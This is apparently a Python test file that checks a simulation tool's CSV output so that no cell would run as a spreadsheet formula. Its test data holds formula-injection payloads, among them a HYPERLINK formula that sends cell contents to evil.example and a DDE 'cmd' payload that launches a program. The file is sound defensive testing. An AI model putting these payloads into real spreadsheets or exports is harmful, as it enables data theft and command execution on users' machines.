"""No CSV holds a cell that a spreadsheet would run, whoever named what is in it."""

from __future__ import annotations

import ast
import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from experiments.browser.catalogue.answers import _attachment
from experiments.browser.catalogue.tables import Table
from experiments.browser.catalogue.whole import as_csv
from experiments.files.results import write_table
from experiments.files.spreadsheets import table_bytes
from simulation.csv_text import csv_lines, harmless
from simulation.parameters.table import numbers, table_text
from tests.support.browser_results import Asking
from tests.support.cli_runner import ROOT, helpseek
from tests.support.sweep_plans import plan_file
from tests.support.workers_here import WorkersHere

HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\ufeff=1",
    "\u200b=1",
    "＝1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    'a";=1',
    "a;=1",
    "a; \t-x",
    "a\n=1",
    'a"\n=1',
    "a\t@x",
    "-",
    "-354 to 1,880",
    "--1",
    "-1.5.2",
    "+",
    "-e5",
    "\x00=1",
)
NUMBERS = ("-1.5", "+3", "-1e-05", "0", "-.5", "1.", "12e3")
PLAIN = ("leap", "a-b", "a=b", "", "'x", "x@y", "1-2", "é=", "leap+subsidy", "a, =b")


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell == cell.strip()


def run_in(text: str) -> list[str]:
    """Cells that would be run, whatever the file is split at and whether quotes count."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    found = [cell for cell in cells if cell[:1] in ("\t", "\r", "\n")]
    for separator in ";\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            cells += row
    # Where the separator is another one, quotes in the middle of a line do not count.
    for line in text.replace("\r", "\n").replace("\t", ";").splitlines():
        cells += line.split(";")
    for cell in cells:
        seen = cell.strip().strip("\ufeff\u200b\x00").strip()
        # Quotes of the next cell may end a number where another separator is expected.
        number = seen.partition(",")[0].rstrip('"')
        if seen[:1] in tuple("=+-@＝＋－＠") and seen and not is_number(number):
            found.append(cell)
    return found


def test_the_test_can_tell() -> None:
    for text in ("=1\n", "a,=1\n", "a;=1\n", '"a\n=1"\n', "a,-x\n", "\t1\n"):
        assert run_in(text), text
    assert not run_in("a,-1.5\n'=1,2\n")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_shown_and_not_run(text: str) -> None:
    line = "".join(csv_lines([["x", text, -1.5, None]]))
    assert run_in(line) == []
    (row,) = csv.reader(io.StringIO(line, newline=""))
    assert row[1].replace("'", "") == text.replace("'", "")  # nothing else is changed


@pytest.mark.parametrize("text", NUMBERS + PLAIN)
def test_numbers_and_other_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@settings(deadline=None, max_examples=300)
@given(
    st.lists(st.text(alphabet="=+-@;,\t\r\n\"' a1＝\ufeff", max_size=12), min_size=1, max_size=4)
)
@example(row=["-1", ";"])
def test_no_row_of_any_texts_is_run(row: list[str]) -> None:
    assert run_in("".join(csv_lines([row]))) == []
    table = pa.table([pa.array([text]) for text in row], names=row)
    for header in (True, False):
        assert run_in(table_bytes(table, header=header).decode()) == []


def test_values_are_written_unrounded_and_come_back() -> None:
    row = [0.1 + 0.2, -7, None, True, 'he said "no", twice', "a\nb", float("nan"), 1e-300]
    (told,) = csv.reader(io.StringIO("".join(csv_lines([row])), newline=""))
    assert told == ["0.30000000000000004", "-7", "", "True", row[4], "a\nb", "nan", "1e-300"]
    assert list(csv_lines([[None], ["a", None]])) == ['""\n', "a,\n"]


def test_a_long_text_is_looked_through_at_once() -> None:
    for unseen in (" ", "\ufeff", "\x0b", '"', ";", "\t", "; \x1f"):
        assert len(harmless(unseen * 100_000)) >= 100_000


def test_nothing_else_writes_csv() -> None:
    """Every other way of writing CSV is one by which a formula gets out."""
    found = []
    for path in sorted(
        [*(ROOT / "experiments").rglob("*.py"), *(ROOT / "simulation").rglob("*.py")]
    ):
        if path == ROOT / "experiments/files/spreadsheets.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[-1] == "csv":
                found.append(f"{path.name}: {ast.unparse(node)}")
            if not isinstance(node, ast.Attribute):
                continue
            of_csv = isinstance(node.value, ast.Name) and node.value.id.endswith("csv")
            if node.attr in ("to_csv", "DictWriter", "write_delim") or (
                of_csv and node.attr in ("writer", "write_csv", "CSVWriter")
            ):
                found.append(f"{path.name}: {ast.unparse(node)}")
    assert found == []


def hostile_table() -> pa.Table:
    words = list(HOSTILE)
    return pa.table(
        {
            "=label": words,
            "@coded": pa.array(words).dictionary_encode(),
            "-several": [[word] for word in words],
            "number": [-1.5] * len(words),
        }
    )


def test_tables_of_results_are_written_so(tmp_path: Path) -> None:
    table = hostile_table()
    write_table(table, tmp_path / "made.csv")
    made = (tmp_path / "made.csv").read_bytes().decode()
    assert run_in(made) == []
    assert ",-1.5" in made
    # A file that somebody else has made is not handed on as it is.
    with (tmp_path / "other.csv").open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([["=name", "number"], *([word, -1.5] for word in HOSTILE)])
    write_table(table, tmp_path / "kept.parquet")
    for name, form in (("other.csv", "csv"), ("kept.parquet", "parquet")):
        columns = dict.fromkeys(table.column_names)
        handed = Table("t", "T", (tmp_path / name,), form, columns, None, 0)  # type: ignore[arg-type]
        told = b"".join(as_csv(handed)).decode()
        assert run_in(told) == [], name
        assert ",-1.5" in told
        assert len(list(csv.reader(io.StringIO(told, newline="")))) == len(HOSTILE) + 1
    for name in ("=x", "-", "@a.b", "..", "a b"):
        assert _attachment(name, "csv").partition('"')[2][:1].isalnum()


def test_numbers_of_a_calibration_are_written_so() -> None:
    entries = [
        replace(entry, run=word, reason=word)
        for entry, word in zip(numbers().values(), HOSTILE, strict=False)
    ]
    text = table_text(entries)
    assert run_in(text) == []
    assert f",{entries[0].value!r}," in text


GROUPS = ["=1+1", "@a;=2", "-x\n=3", "plain"]


def test_commands_write_so_whatever_people_and_groups_are_called(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("experiments.engine.crew.LocalWorkers", WorkersHere)
    with (tmp_path / "=people.csv").open("w", newline="", encoding="utf-8") as file:
        rows = [[f"=id{row}", GROUPS[row % 4], 20 + row % 50] for row in range(60)]
        csv.writer(file).writerows([["who", "group", "age"], *rows])
    world = {
        "extends": "town",
        "name": "=1+1",
        "population": {
            "people": None,
            "source": "file",
            "file": "=people.csv",
            "columns": {"id": "who", "culture": "group", "age": "age"},
        },
        "culture": {"groups": {group: {} for group in GROUPS}},
        "horizon": {"weeks": 4, "burn_in_weeks": 4},
    }
    (tmp_path / "@world.yaml").write_text(json.dumps(world))
    (tmp_path / "-arm.yaml").write_text(json.dumps({"strategies": ["leap"]}))
    out = tmp_path / "results"
    for command in (
        ("run", tmp_path / "@world.yaml", "--by", "culture", "--no-figures", "--out", out / "ran"),
        (
            "compare",
            "--draws",
            "0",
            tmp_path / "@world.yaml",
            "--strategy",
            tmp_path / "-arm.yaml",
            "--seeds",
            "2",
            "--workers",
            "1",
            "--no-figures",
            "--out",
            out / "compared",
        ),
    ):
        said = helpseek(*command, "--quiet")
        assert said.code == 0, said.err
    plan = plan_file(tmp_path, levers={"policy": {"=1+1": [], "@b": ["leap"]}})
    said = helpseek("sweep", plan, "--workers", "1", "--quiet", "--out", out / "swept")
    assert said.code == 0, said.err
    query = "select *, '=1+1' as \"@a\", -1.5 as number from runs"
    said = helpseek("query", query, out / "swept", "--csv", tmp_path / "asked.csv")
    assert said.code == 0, said.err
    written = [*out.rglob("*.csv"), tmp_path / "asked.csv"]
    assert {"breakdown.csv", "differences.csv", "asked.csv"} <= {path.name for path in written}
    texts = {path.name: path.read_bytes().decode() for path in written}
    asking = Asking(out)
    for name in ("ran", "compared", "swept"):
        for table in asking.detail(name)["tables"]:
            answer = asking.get(f"{asking.id(name)}/tables/{table['name']}.csv")
            assert answer.status_code == 200
            texts[f"{name}: {table['name']}"] = answer.content.decode()
    assert "'=id3" in texts["ran: people"]
    assert "'@a;'=2" in texts["breakdown.csv"]
    for name, text in texts.items():
        assert run_in(text) == [], name
